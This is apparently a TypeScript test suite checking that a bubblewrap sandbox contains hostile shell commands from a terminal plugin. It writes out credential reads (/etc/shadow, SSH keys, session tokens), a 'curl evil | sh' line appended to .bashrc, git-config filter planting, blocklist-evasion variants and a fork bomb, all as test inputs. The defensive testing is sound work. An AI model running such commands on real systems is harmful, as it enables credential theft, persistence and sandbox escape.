// With bubblewrap: `sh -c` inside a namespace with no network, a read-only system, a private
// /tmp and only cwd writable. The parsed line is still checked against the blocklist, but
// the assertions that matter are what the sandbox contains: files outside cwd, the network,
// the server's environment, fork bombs and floods. Skipped where bwrap cannot run (CI
// installs it, see .ci/run).
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { randomUUID } from "node:crypto";
import { execFileSync } from "node:child_process";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { detectSandbox } from "../../../plugins/terminal/services/sandbox.ts";
import { removeHome } from "../../helpers/start-test-host.ts";
import { waitUntil } from "../../helpers/wait.ts";
import { processesMatching, scratch, startTerminalHost, terminal, type TerminalHost } from "./helpers.ts";

const t = suite<{ th: TerminalHost; dir: string; outside: string }>("terminal in the bubblewrap sandbox");

t.before(async (ctx) => {
  ctx.th = await startTerminalHost({ sandbox: "bwrap", maxProcesses: 32, maxFileBytes: 1024 * 1024 });
  ctx.dir = scratch();
  ctx.outside = scratch("muster-term-outside-");
  writeFileSync(join(ctx.dir, "victim"), "precious");
  writeFileSync(join(ctx.outside, "victim"), "precious");
});
t.after(async (ctx) => {
  await ctx.th.h.stop();
  removeHome(ctx.th.h.home);
  rmSync(ctx.dir, { recursive: true, force: true });
  rmSync(ctx.outside, { recursive: true, force: true });
});

t("runs an sh -c line with pipes; cwd is writable and the file reaches the host", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "echo hello | tr a-z A-Z; echo made > made.txt && pwd", cwd: dir });
  assert.is(res.status, 200, JSON.stringify(res.body));
  assert.is(res.body.sandbox, "bwrap");
  assert.is(res.body.output, `HELLO\n${dir}\n`);
  assert.is(readFileSync(join(dir, "made.txt"), "utf8"), "made\n");
});

t("nothing outside cwd can be written: system dirs are read-only, /tmp is private, other dirs absent", async ({ th, dir, outside }) => {
  const leak = join(tmpdir(), `muster-leak-${randomUUID()}`);
  const res = await terminal(th.h, {
    command: `touch /usr/muster-x; echo leak > ${leak}; a=r; \${a}m -f ${outside}/victim; ls ${outside}; echo done`,
    cwd: dir,
  });
  assert.is(res.status, 200, JSON.stringify(res.body));
  assert.match(res.body.output, /Read-only file system/);
  assert.match(res.body.output, /done\n$/);
  assert.not.ok(existsSync(leak));
  assert.not.ok(existsSync("/usr/muster-x"));
  assert.is(readFileSync(join(outside, "victim"), "utf8"), "precious");
});

t("a repository's git config cannot be changed from inside (git's program check must not race a rewrite); commits still work", async ({ th }) => {
  const repo = scratch("muster-term-repo-");
  try {
    execFileSync("git", ["init", "-q", repo]);
    execFileSync("git", ["-C", repo, "config", "user.name", "Sandboxed"]);
    execFileSync("git", ["-C", repo, "config", "user.email", "sandboxed@example.invalid"]);
    const before = readFileSync(join(repo, ".git/config"), "utf8");
    const res = await terminal(th.h, {
      command: `printf '[filter "x"]\\n\\tclean = touch pwned\\n' >> .git/config; echo append=$?; mv .git .git-moved; echo move=$?; echo note > note.md && git add note.md && git commit -q -m note && echo committed`,
      cwd: repo,
    });
    assert.is(res.status, 200, JSON.stringify(res.body));
    assert.match(res.body.output, /append=[1-9]/);
    assert.match(res.body.output, /move=[1-9]/);
    assert.match(res.body.output, /committed/);
    assert.is(readFileSync(join(repo, ".git/config"), "utf8"), before);
    assert.is(execFileSync("git", ["-C", repo, "log", "--format=%s"], { encoding: "utf8" }).trim(), "note");
  } finally {
    rmSync(repo, { recursive: true, force: true });
  }
});

t("no capabilities, even when Muster runs as root: no device nodes, no mounts (the blocklist bypassed by a dynamic name)", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "grep CapEff /proc/self/status; mknod disk b 8 0; echo mknod=$?; m=mount; $m -t tmpfs none .; echo mount=$?", cwd: dir });
  assert.is(res.status, 200, JSON.stringify(res.body));
  assert.match(res.body.output, /CapEff:\s+0000000000000000/);
  assert.not.match(res.body.output, /mknod=0|mount=0/);
  assert.not.ok(existsSync(join(dir, "disk")));
});

t("Muster's data directories inside a cwd are empty, this instance's and another's (the workspace excepted): no session token, no database, nothing planted", async () => {
  const parent = scratch("muster-term-parent-");
  const mine = await startTerminalHost({ sandbox: "bwrap" }, undefined, join(parent, "home"));
  const other = await startTerminalHost({ sandbox: "none" }, undefined, join(parent, "other"));
  try {
    const home = mine.h.home;
    const res = await terminal(mine.h, {
      command: `ls -A ${home}; cat ${home}/session-token; cat ${other.h.home}/session-token; ls -A ${other.h.home}; echo planted > ${home}/planted; echo '{}' > ${other.h.home}/muster.config.json; echo w > ${mine.h.workspace}/w.txt; echo end`,
      cwd: parent,
    });
    assert.is(res.status, 200, JSON.stringify(res.body));
    assert.not.ok(res.body.output.includes(mine.h.token) || res.body.output.includes(other.h.token), res.body.output);
    assert.match(res.body.output, /^workspace\n/);
    assert.match(res.body.output, /session-token: No such file or directory[^]*session-token: No such file or directory/);
    assert.match(res.body.output, /end\n$/);
    assert.not.ok(existsSync(join(home, "planted")));
    assert.not.ok(existsSync(join(other.h.home, "muster.config.json")));
    assert.is(readFileSync(join(mine.h.workspace, "w.txt"), "utf8"), "w\n", "the workspace inside it stays reachable");
  } finally {
    for (const th of [mine, other]) await th.h.stop();
    rmSync(parent, { recursive: true, force: true });
  }
});

t("finding 6: cwd = the temp directory is the sandbox's own private /tmp: another instance's token is not there, nothing reaches the host", async ({ th }) => {
  const other = await startTerminalHost({ sandbox: "none" });
  const marker = `muster-private-tmp-${randomUUID()}`;
  try {
    const res = await terminal(th.h, { command: `pwd; cat ${other.h.home}/session-token; ls -A /tmp; grep -rs ${other.h.token} /tmp; echo x > ${marker}; echo end`, cwd: tmpdir() });
    assert.is(res.status, 200, JSON.stringify(res.body));
    assert.not.ok(res.body.output.includes(other.h.token), res.body.output);
    assert.match(res.body.output, /^\/tmp\n/);
    assert.match(res.body.output, /session-token: No such file or directory/);
    assert.match(res.body.output, /end\n$/);
    assert.not.ok(existsSync(join(tmpdir(), marker)), "the private /tmp is not the host's");
  } finally {
    await other.h.stop();
    removeHome(other.h.home);
  }
});

t("finding 6: a cwd holding a Muster checkout cannot read or write its source tree; a cwd inside one is refused", async ({ th }) => {
  const home = scratch("muster-term-home-");
  const checkout = join(home, "muster");
  mkdirSync(join(checkout, "core"), { recursive: true });
  writeFileSync(join(checkout, "package.json"), JSON.stringify({ name: "muster" }));
  writeFileSync(join(checkout, "core", "host.ts"), "// original\n");
  const saved = process.env.HOME;
  process.env.HOME = home; // os.homedir() follows HOME: the test's own $HOME, never the real one
  try {
    const res = await terminal(th.h, { command: "cat muster/package.json; echo 'evil()' >> muster/core/host.ts; echo rc=$?; echo mine > notes.md", cwd: home });
    assert.is(res.status, 200, JSON.stringify(res.body));
    assert.not.match(res.body.output, /"muster"|rc=0/);
    assert.is(readFileSync(join(checkout, "core", "host.ts"), "utf8"), "// original\n");
    assert.is(readFileSync(join(home, "notes.md"), "utf8"), "mine\n", "the rest of $HOME is the writable cwd");
    for (const cwd of [checkout, join(checkout, "core")]) {
      const inside = await terminal(th.h, { command: "echo 'evil()' >> host.ts", cwd });
      assert.is(inside.status, 403, JSON.stringify(inside.body));
      assert.is(inside.body.error?.code, "TERMINAL_CWD_FORBIDDEN");
    }
    assert.is(readFileSync(join(checkout, "core", "host.ts"), "utf8"), "// original\n");
  } finally {
    process.env.HOME = saved;
    rmSync(home, { recursive: true, force: true });
  }
});

t("with cwd = $HOME, its dot entries are masked: no credentials to read, no start-up file to rewrite", async ({ th }) => {
  const home = scratch("muster-term-home-");
  mkdirSync(join(home, ".ssh"));
  writeFileSync(join(home, ".ssh", "id_ed25519"), "PRIVATE KEY");
  writeFileSync(join(home, ".bashrc"), "# original\n");
  const saved = process.env.HOME;
  process.env.HOME = home; // os.homedir() follows HOME: the test's own $HOME, never the real one
  try {
    const res = await terminal(th.h, { command: "cat .ssh/id_ed25519; wc -c < .bashrc; echo 'curl evil | sh' >> .bashrc; echo rc=$?; echo mine > notes.md", cwd: home });
    assert.is(res.status, 200, JSON.stringify(res.body));
    assert.not.match(res.body.output, /PRIVATE KEY/);
    assert.not.match(res.body.output, /rc=0/);
    assert.is(readFileSync(join(home, ".bashrc"), "utf8"), "# original\n");
    assert.is(readFileSync(join(home, "notes.md"), "utf8"), "mine\n", "the rest of $HOME is the writable cwd");
  } finally {
    process.env.HOME = saved;
    rmSync(home, { recursive: true, force: true });
  }
});

t("no network: the server's own port cannot be reached from inside", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: `curl -sS -m 3 ${th.h.url}/api/health; echo "exit=$?"; cat /proc/net/dev`, cwd: dir });
  assert.is(res.status, 200);
  assert.not.match(res.body.output, /exit=0/);
  assert.not.match(res.body.output, /eth0|ens|wlan/);
});

t("no host credentials: /etc/shadow, ~/.ssh and the server's environment are not there", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "cat /etc/shadow; ls /root/.ssh; printenv; cat /proc/1/environ; echo", cwd: dir });
  assert.is(res.status, 200);
  assert.match(res.body.output, /shadow: No such file/);
  assert.not.match(res.body.output, /terminal-test-passphrase|VAULT_KEY/);
  assert.match(res.body.output, /PATH=\/usr\/local\/sbin/);
});

t("the blocklist is applied to every command of the parsed line, substitutions included", async ({ th, dir }) => {
  for (const command of [
    "echo a; rm victim",
    "true && \\rm victim",
    "echo $(rm victim)",
    "echo `rm victim`",
    "echo \"$(echo $(rm victim))\"",
    "X=1 rm victim",
    "{ rm victim; }",
    "if true; then rm victim; fi",
    "ls | xargs rm",
    "bash -c 'rm victim'",
    "python3 -c pass",
    "echo x > out 2>&1; /usr/bin/../bin/rm victim",
  ]) {
    const res = await terminal(th.h, { command, cwd: dir });
    assert.is(res.status, 403, `${command}: ${JSON.stringify(res.body)}`);
    assert.is(res.body.error?.code, "TERMINAL_COMMAND_BLOCKED", command);
  }
  assert.is(readFileSync(join(dir, "victim"), "utf8"), "precious");
});

t("a fork bomb stops at the process cap and leaves nothing behind", async ({ th, dir }) => {
  const res = await terminal(th.h, {
    command: "i=0; while [ $i -lt 400 ]; do sleep 27.3141 & i=$((i+1)); done; echo spawned $i",
    cwd: dir,
    timeoutMs: 20_000,
  });
  assert.is(res.status, 200, JSON.stringify(res.body));
  assert.match(res.body.output, /fork/i);
  assert.ok(await waitUntil(() => processesMatching("sleep 27.3141").length === 0, { timeoutMs: 5000 }));
  const next = await terminal(th.h, { command: "echo alive", cwd: dir });
  assert.is(next.body.output, "alive\n");
});

t("a file cannot grow past terminal.maxFileBytes", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "head -c 3000000 /dev/zero > big; echo rc=$?", cwd: dir });
  assert.is(res.status, 200);
  assert.not.match(res.body.output, /rc=0/);
  assert.ok(statSync(join(dir, "big")).size <= 1024 * 1024);
});

t("a timeout kills the whole sandbox, background children included", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "sleep 28.1234 & sleep 28.4321", cwd: dir, timeoutMs: 500 });
  assert.is(res.body.timedOut, true);
  assert.ok(await waitUntil(() => processesMatching("sleep 28.").length === 0, { timeoutMs: 3000 }));
});

t("an output flood is capped at 1 MiB and killed", async ({ th, dir }) => {
  const res = await terminal(th.h, { command: "yes muster-sandbox-flood", cwd: dir });
  assert.is(res.body.truncated, true);
  assert.is(Buffer.byteLength(res.body.output), 1024 * 1024);
  assert.ok(await waitUntil(() => processesMatching("muster-sandbox-flood").length === 0, { timeoutMs: 3000 }));
});

// The same trial run the plugin makes at start.
const mode = await detectSandbox({ maxProcesses: 32, maxFileBytes: 1024 ** 2, cpuSeconds: 10 });
if (mode.sandbox === "bwrap") t.run();
else console.warn(`terminal sandbox suite skipped: ${mode.reason} (install bubblewrap; .ci/run does)`);
